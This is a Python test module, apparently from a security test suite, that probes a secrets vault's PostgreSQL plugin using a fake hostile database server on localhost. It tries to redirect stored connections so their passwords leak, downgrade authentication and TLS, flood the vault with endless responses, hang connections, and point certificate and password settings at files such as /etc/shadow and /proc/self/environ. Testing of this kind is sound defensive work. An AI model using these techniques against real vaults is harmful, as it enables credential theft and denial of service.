"""An administrator of the database engine, alone, with a database server of their own.

D1  a connection of somebody else's, moved to that server or to another file or port
D2  ways to ask for a password, and for a connection without TLS
D3  answers without end, and odd ones
D4  a server that is silent, while a responder needs another one
D5  files of the vault's machine as authorities
"""

import socket
import struct
import threading
from collections.abc import Iterator
from contextlib import ExitStack, suppress
from typing import Any, Final

from tests.attacks.positions.attempts import Attempts, Row
from tests.connectors.postgresql.hostile import (
    COLUMN,
    DONE,
    READY,
    Answer,
    Server,
    endless,
    message,
    row as one_row,
)

OWN: Final = "the password of the attacker's own server"
MARK: Final = "words-of-a-hostile-server"
MOST: Final = 64 << 20
"""Bytes that a server may be sent without being cut off; the vault's limits are a quarter of it."""
HUNG: Final = 6
"""Requests that hang at one server: more than may run there at once."""


def plain(connection: socket.socket, query: str) -> None:
    """Answer with one item, and with no database to look into."""
    rows = b"" if "datallowconn FROM pg_database ORDER" in query else one_row(b"plain")
    connection.sendall(COLUMN + rows + DONE)


class Database:
    """Tries what a server of one's own allows."""

    def __init__(self, attempts: Attempts) -> None:
        self.attempts: Final = attempts
        self.target: Final = attempts.target
        self.token: Final[str] = self.target["token"]

    def run(self) -> None:
        """Try everything."""
        self.move()
        self.ask_for_passwords()
        self.flood()
        self.hang()
        self.name_files()

    def ask(self, row: Row, method: str, path: str, data: Any = None) -> Any:
        """Ask as the administrator."""
        return self.attempts.ask(
            row, self.attempts.nowhere, method, f"database/{path}", data, self.token
        )

    def server(self, answer: Answer, asks: bytes = b"") -> Server:
        """Return a server of the attacker's, which ends with the program at the latest."""
        made = Server(answer, password=OWN.encode(), asks=asks)
        self.attempts.stack.callback(made.close)
        return made

    def config(self, row: Row, name: str, server: Server, **more: Any) -> bool:
        """Write a connection to a server of one's own; return whether it was kept."""
        url = f"postgresql://{{{{username}}}}:{{{{password}}}}@127.0.0.1:{server.port}/db"
        given = {
            "plugin_name": "postgresql-database-plugin", "connection_url": f"{url}?sslmode=disable",
            "username": "admin", "password": OWN, "allowed_roles": "*", **more,
        }  # fmt: skip
        return self.ask(row, "POST", f"config/{name}", given) is not None

    def move(self) -> None:
        """Have the password of a kept connection shown to a server of one's own."""
        mine = self.server(plain)
        row = self.attempts.row("D1", "a kept connection, moved without its password")
        for change in moves(mine.port):
            answer = self.ask(row, "POST", f"config/{self.target['connection']}", change)
            # A request that waits for another person has changed nothing.
            row.let_in -= bool(answer and answer.get("wrap_info"))
        used = self.attempts.row("D1", "the same connection, used afterwards")
        for method, path in (("POST", "reset/{}"), ("GET", "inventory/{}"), ("GET", "diff/{}")):
            self.ask(used, method, path.format(self.target["connection"]))
        met = self.attempts.row("D1", "logins for it at the attacker's server")
        met.tried, met.let_in = row.tried, len(mine.received)
        moved = self.attempts.row("D1", "the same connection, moved with a password of one's own")
        self.config(moved, self.target["connection"], mine)
        before = len(mine.received)
        role = self.target["role"]
        for method, path in (("POST", "probe"), ("GET", "sessions"), ("GET", "static-creds")):
            self.ask(moved, method, f"{path}/{role}")
        proofs = self.attempts.row("D1", "proofs of a role's password that its server was shown")
        shown = mine.received[before:]
        proofs.tried = 1
        proofs.let_in = int(any(b",p=" in each for each in shown))
        clear = self.attempts.row("D1", "the role's password itself")
        clear.tried = 1
        clear.let_in = sum(self.target["secret"].encode() in each for each in mine.received)

    def ask_for_passwords(self) -> None:
        """Ask for a password in every way that the protocol has."""
        row = self.attempts.row("D2", "a server that asks for more than SCRAM, or for no TLS")
        seen = self.attempts.row("D2", "passwords that it was sent")
        for number, asks in enumerate(demands()):
            mine = self.server(plain, asks)
            self.config(row, f"d2-{number}", mine)
            self.config(row, f"d2-{number}", mine, verify_connection=False)
            seen.tried += 1
            seen.let_in += any(OWN.encode() in each for each in mine.received)
        mine = self.server(plain)
        for mode in ("require", "prefer", "allow", "verify-ca", "verify-full", "", "DISABLE", " "):
            url = f"postgresql://127.0.0.1:{mine.port}/db?sslmode={mode}"
            self.config(row, "d2-tls", mine, connection_url=url)
        for tail in ("sslmode=verify-full&sslmode=disable", "host=127.0.0.1", "service=x",
                     "options=-c%20x", "passfile=/etc/passwd", "sslkey=/etc/shadow"):  # fmt: skip
            url = f"postgresql://127.0.0.1:{mine.port}/db?{tail}"
            self.config(row, "d2-tls", mine, connection_url=url)
        seen.tried += 1
        seen.let_in += any(b"user\0" in each for each in mine.received)  # begun in the clear

    def flood(self) -> None:
        """Answer without end, and with odd things, when the vault takes stock."""
        row = self.attempts.row("D3", "answers without end, and odd ones")
        taken = self.attempts.row("D3", "answers that were taken to the end")
        for number, answer in enumerate(odd_answers()):
            counted = Counted(answer)
            mine = self.server(counted)
            if self.config(row, f"d3-{number}", mine):
                self.ask(row, "GET", f"inventory/d3-{number}")
                self.ask(row, "GET", f"diff/d3-{number}")
            taken.tried += 1
            taken.let_in += counted.most > MOST

    def hang(self) -> None:
        """Hang at one server, and see whether sessions at another one can be ended meanwhile."""
        with ExitStack() as stack:
            silent, quick = self.server(lambda *_: None), self.server(plain)
            row = self.attempts.row("D4", "connections to a server that says nothing")
            urgent = self.attempts.row("D4", "sessions ended at another server meanwhile")
            wanted = {"verify_connection": False}
            self.config(row, "d4-quick", quick)
            role = {"db_name": "d4-quick", "username": "app", "password": OWN,
                    "skip_import_rotation": True}  # fmt: skip
            self.ask(row, "POST", "static-roles/d4", role)
            begun = []
            for number in range(HUNG):
                client = self.attempts.connect()
                at = f"database/config/d4-{number}"
                given = (f"127.0.0.1:{silent.port}", wanted)
                thread = threading.Thread(target=self.wait, args=(client, at, given))
                thread.start()
                begun.append(thread)
                stack.callback(thread.join)
            stack.callback(silent.close)
            while len(silent.received) < 2:
                if not any(each.is_alive() for each in begun):
                    break
            self.ask(urgent, "POST", "kill/d4")
            urgent.statuses[-1] = sum(each.is_alive() for each in begun)

    def wait(self, client: Any, path: str, given: tuple[str, Any]) -> None:
        """Write a connection that hangs, until its server is gone."""
        host, more = given
        data = {"plugin_name": "postgresql-database-plugin", "host": host, "sslmode": "disable",
                "username": "admin", "password": OWN, **more}  # fmt: skip
        with suppress(OSError):
            client.send("POST", path, data, self.token)

    def name_files(self) -> None:
        """Have files of the vault's machine read as authorities."""
        row = self.attempts.row("D5", "files of the vault's machine as authorities")
        mine = self.server(plain)
        files = (
            "/dev/zero", "/dev/stdin", "/proc/self/environ", "/proc/self/mem", "/etc/passwd", "/",
            "relative.pem", "/no/such/file", "/proc/self/fd/0", "/dev/random",
        )  # fmt: skip
        for path in files:
            url = f"postgresql://127.0.0.1:{mine.port}/db?sslmode=verify-full&sslrootcert={path}"
            self.config(row, "d5", mine, connection_url=url)


class Counted:
    """Answers as another one does, and counts what was taken of the longest answer."""

    def __init__(self, answer: Answer) -> None:
        self.answer: Final = answer
        self.most = 0

    def __call__(self, connection: socket.socket, query: str) -> None:
        """Answer a statement."""
        self.answer(Counting(connection, self), query)  # type: ignore[arg-type]  # it sends alone


class Counting:
    """A connection that counts what is sent over it."""

    def __init__(self, connection: socket.socket, counted: Counted) -> None:
        self.connection: Final = connection
        self.counted: Final = counted
        self.sent = 0

    def sendall(self, data: bytes) -> None:
        """Send, until far more was taken than anybody should."""
        if self.sent > MOST:
            raise OSError
        self.connection.sendall(data)
        self.sent += len(data)
        self.counted.most = max(self.counted.most, self.sent)


def moves(port: int) -> Iterator[dict[str, Any]]:
    """Yield changes of a connection that bring it to another server, without its password."""
    url = "postgresql://{{username}}:{{password}}@"
    for hosts in (f"127.0.0.1:{port}", f"localhost:{port}", f"[::1]:{port}"):
        yield {"connection_url": f"{url}{hosts}/postgres?sslmode=disable"}
        yield {"connection_url": f"{url}{hosts}/postgres?sslmode=disable", "password": None}
        yield {"connection_url": f"{url}{hosts}/postgres?sslmode=disable",
               "verify_connection": False}  # fmt: skip
    yield {"host": f"127.0.0.1:{port}", "sslmode": "disable", "verify_connection": False}
    yield {"host": "127.0.0.1", "port": port, "sslmode": "disable", "verify_connection": False}
    yield {"plugin_name": "mysql-database-plugin"}
    yield {"username": "postgres"}
    yield {"root_rotation_statements": ["ALTER ROLE x PASSWORD '{{password}}'"]}


def demands() -> Iterator[bytes]:
    """Yield what a server may say in place of a SCRAM login."""

    def asked(code: int, more: bytes = b"") -> bytes:
        return message(b"R", struct.pack("!i", code) + more)

    yield asked(0) + READY
    yield asked(3)
    yield asked(5, b"salt")
    yield asked(7)
    yield asked(10, b"PLAIN\0\0")
    yield asked(10, b"SCRAM-SHA-256-PLUS\0\0")
    yield asked(11, b"r=x,s=AAAA,i=1") + asked(12, b"v=AAAA") + asked(0) + READY
    yield asked(10, b"SCRAM-SHA-256\0\0") + asked(11, b"r=x,s=AAAA,i=99999999")
    yield b"R" + struct.pack("!i", -5)
    yield b"N" + struct.pack("!i", 2**31 - 1) + b"x" * 4_000
    yield message(b"E", f"SERROR\0C28P01\0M{MARK}\x1b[2J\0\0".encode())
    yield b"HTTP/1.1 200 OK\r\n\r\n"


def odd_answers() -> Iterator[Answer]:
    """Yield answers to what the vault asks when it takes stock."""

    def rows(*values: bytes) -> Answer:
        def answer(connection: socket.socket, query: str) -> None:
            odd = b"".join(map(one_row, values)) if "FROM pg_roles" in query else b""
            connection.sendall(COLUMN)
            plain_rows = b"" if "datallowconn FROM pg_database ORDER" in query else one_row(b"p")
            connection.sendall(plain_rows + odd + DONE)

        return answer

    error = message(b"E", f"SERROR\0C42501\0M{MARK}\0\0".encode()) + READY
    yield endless(one_row(b"x y " * 1_500))
    yield endless(message(b"N", b"SNOTICE\0C00000\0Mhello\0\0"))
    yield endless(b"D" + struct.pack("!i", 2**31 - 1) + b"x" * 10_000)
    yield rows(b"pass" * 16_384, b"password=" * 8_000, b"\\'" * 30_000)
    yield rows(b"twin", b"twin", b"\xff\xfe", b"", b"\x1b[2J\xe2\x80\xae", b"a\x00b")
    yield rows(b"x" * (3 << 20))
    yield lambda connection, _query: connection.sendall(error)
    yield lambda connection, _query: connection.sendall(COLUMN + message(b"D", b"\x7f\xff") + DONE)
